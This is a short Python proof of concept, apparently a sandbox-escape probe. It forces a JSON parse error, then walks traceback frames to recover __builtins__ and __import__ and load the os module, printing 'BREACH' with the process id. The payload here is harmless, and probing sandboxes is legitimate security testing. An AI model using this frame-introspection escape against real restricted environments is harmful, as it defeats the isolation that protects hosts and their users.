import json
try:
    json.loads("{")
except ValueError as error:
    tb = error.__traceback__
    while tb.tb_next:
        tb = tb.tb_next
    print("BREACH", tb.tb_frame.f_globals["__builtins__"]["__import__"]("os").getpid(), tb.tb_frame.f_back)
